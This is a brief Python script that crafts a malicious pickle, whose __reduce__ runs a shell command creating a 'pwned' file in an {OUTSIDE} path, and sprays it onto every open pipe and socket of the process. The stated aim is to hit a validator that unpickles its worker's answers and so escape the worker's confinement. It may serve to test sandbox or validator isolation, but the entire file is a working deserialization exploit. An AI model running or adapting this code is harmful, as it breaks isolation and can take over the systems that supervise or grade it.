import os
import pickle
import struct

# Write a pickle that would run a command when loaded to every pipe or socket this
# process has: the validator reads its worker's answer with a restricted unpickler.


class Payload:
    def __reduce__(self):
        return (os.system, ("touch {OUTSIDE}/pwned",))


data = pickle.dumps(Payload())
for name in os.listdir("/proc/self/fd"):
    try:
        os.write(int(name), struct.pack("!i", len(data)) + data)
    except OSError:
        pass
